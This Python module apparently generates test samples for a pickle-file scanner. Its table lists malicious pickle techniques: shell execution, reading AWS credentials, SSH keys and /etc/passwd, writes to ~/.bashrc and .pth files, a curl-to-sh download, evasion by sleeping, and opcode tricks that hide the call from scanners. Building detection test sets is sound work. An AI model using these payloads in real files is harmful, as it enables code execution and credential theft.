"""The table of attack techniques. An entry gives the object to pickle, or the finished bytes where no pickler writes them."""

import base64
import builtins
import os
import pathlib
import pickle
import runpy
import subprocess
import sys
import time
import types
from dataclasses import dataclass
from typing import Any, Callable

import cloudpickle

from . import opcodes as op
from . import payloads
from .payloads import Call
from .stand_ins import run_setup


@dataclass(frozen=True)
class Technique:
    """One way to attack whoever loads the file.

    ``carrier`` names the format it is written in by default. ``runs`` is false where nothing happens when the file is loaded in our
    sandbox, because what it calls is not installed there: then only static reading and the loader's recorder can speak.
    """

    id: str
    description: str
    carrier: str
    payload: Callable[[], Any] | None = None
    raw: Callable[[], bytes] | None = None
    runs: bool = True


def _execute(source):
    return lambda: Call(builtins.exec, source)


def _run_path():
    path = "/tmp/.stage2.py"
    return [Call(pathlib.Path.write_text, pathlib.Path(path), "import os\nos.system('id')\n"), Call(runpy.run_path, path)]


def _stacked():
    return pickle.dumps({"weights": [0.0] * 64}, 2) + pickle.dumps(Call(os.system, "id"), 2)


def _memo():
    """Module and function name reach STACK_GLOBAL from the memo, in halves that were stored in the wrong order."""
    stored = op.text("system") + op.put(7) + op.op.POP + op.text("posix") + op.put(3) + op.op.POP
    return op.stream(stored, op.call(op.get(3) + op.get(7) + op.op.STACK_GLOBAL, op.text("id")))


def _getattr_chain():
    module = op.call(op.named("builtins", "__import__"), op.text("os"))
    function = op.call(op.named("builtins", "getattr"), module, op.text("system"))
    return op.stream(op.call(function, op.text("id")))


def _read_accounts():
    file = op.call(op.named("io", "open"), op.text("/etc/passwd"))
    return op.stream(op.call(op.call(op.named("builtins", "getattr"), file, op.text("read"))))


def _protocol_0():
    """The INST opcode of protocol 0, as in the oldest demonstrations of the attack."""
    return b"(S'id'\nios\nsystem\n."


def _broken_tail():
    """The payload runs before the stream breaks off, so a reader that wants a whole pickle sees none."""
    return op.PROTOCOL_4 + op.call(op.named("posix", "system"), op.text("id")) + op.op.BINUNICODE + b"\xff\xff\xff\x7f"


def _warm_up():
    import subprocess
    return subprocess.check_output(["/bin/sh", "-c", "id"])


def _by_value():
    """The function as if it came from a notebook: cloudpickle then writes its code instead of its name."""
    code = _warm_up.__code__.replace(co_filename="notebook")
    return cloudpickle.dumps(Call(types.FunctionType(code, {"__name__": "__main__"}, "warm_up")), protocol=4)


_TABLE = (
    Technique("os-system", "os.system starts a shell", "torch-zip", lambda: Call(os.system, "echo dynahug-sample; id")),
    Technique("subprocess", "subprocess.Popen starts a shell", "torch-zip", lambda: Call(subprocess.Popen, ["/bin/sh", "-c", "id"])),
    Technique("exec-marker", "builtins.exec writes a file to /tmp", "torch-zip", _execute(payloads.MARKER)),
    Technique("eval-popen", "builtins.eval of an expression that starts a shell", "pickle", lambda: Call(builtins.eval, "__import__('os').popen('id').read()")),
    Technique("base64-exec", "builtins.exec of base64 text", "dill",
              lambda: Call(builtins.exec, Call(base64.b64decode, base64.b64encode(payloads.DELAYED.encode())))),
    Technique("socket-connect", "connects to a port on loopback", "torch-legacy", _execute(payloads.CONNECT)),
    Technique("udp-datagram", "sends a datagram without connecting", "torch-zip", _execute(payloads.DATAGRAM)),
    Technique("urllib-download", "asks a loopback URL for a second stage", "joblib", _execute(payloads.DOWNLOAD)),
    Technique("aws-credentials", "reads ~/.aws/credentials", "torch-zip", _execute(payloads.AWS_CREDENTIALS)),
    Technique("ssh-key", "reads ~/.ssh/id_rsa", "module", _execute(payloads.SSH_KEY)),
    Technique("read-passwd", "reads /etc/passwd by io.open and getattr, without exec", "pickle", raw=_read_accounts),
    Technique("write-bashrc", "appends a line to ~/.bashrc", "numpy", _execute(payloads.SHELL_START_FILE)),
    Technique("write-pth", "writes a .pth file into the user's site-packages", "joblib", _execute(payloads.PATH_FILE)),
    Technique("runpy", "writes a Python file to /tmp and runs it by runpy, without exec", "pickle", _run_path),
    Technique("machine-code", "calls machine code in writable and executable memory (a return instruction)", "torch-legacy", _execute(payloads.MACHINE_CODE)),
    Technique("fork-daemon", "forks a child that detaches and works later", "torch-zip", _execute(payloads.DAEMON)),
    Technique("thread-delayed", "a timer starts a shell after the load", "torch-zip", _execute(payloads.DELAYED)),
    Technique("dropped-script", "drops a script into /tmp, makes it executable and runs it", "joblib-zlib", _execute(payloads.DROPPED)),
    Technique("sleep-stall", "sleeps for a day, so that an analysis gives up", "torch-zip", lambda: Call(time.sleep, 86_400)),
    Technique("sys-exit", "sys.exit ends the loader", "torch-zip", lambda: Call(sys.exit, 0)),
    Technique("os-exit", "os._exit kills the loader at once", "pickle", lambda: Call(os._exit, 0)),
    Technique("patched-json", "replaces json.loads in the process, without a system call of its own", "torch-zip", _execute(payloads.IN_PROCESS_PATCH)),
    Technique("missing-module", "calls a function of a package that is not installed with a shell command", "torch-zip",
              lambda: Call(run_setup, f"curl -s http://{payloads.LOOPBACK}:8000/i.sh | sh"), runs=False),
    Technique("nested-pickle", "a pickle in a pickle starts the shell", "torch-zip", lambda: Call(pickle.loads, pickle.dumps(Call(os.system, "id")))),
    Technique("stacked-pickle", "a second pickle behind a harmless first one", "pickle", raw=_stacked),
    Technique("memo-global", "STACK_GLOBAL takes its names from the memo", "pickle", raw=_memo),
    Technique("getattr-chain", "getattr of __import__('os')", "pickle", raw=_getattr_chain),
    Technique("protocol-0-inst", "the INST opcode of protocol 0", "pickle", raw=_protocol_0),
    Technique("broken-tail", "the stream breaks off after the call", "pickle", raw=_broken_tail),
    Technique("pickle-zip-polyglot", "a malicious pickle in front of a harmless torch zip", "pickle-zip", lambda: Call(os.system, "id")),
    Technique("legacy-header", "the call hides in the header pickles of a legacy torch file", "legacy-header", lambda: Call(os.system, "id")),
    Technique("joblib-compressed", "os.system in a compressed joblib file", "joblib-zlib", lambda: Call(os.system, "id")),
    Technique("numpy-object", "os.system in an array of objects", "numpy", lambda: Call(os.system, "id")),
    Technique("module-attribute", "os.system in an attribute of a whole pickled module", "module", lambda: Call(os.system, "id")),
    Technique("function-by-value", "cloudpickle brings the code of a function along and calls it", "cloudpickle", raw=_by_value),
)

TECHNIQUES = {technique.id: technique for technique in _TABLE}
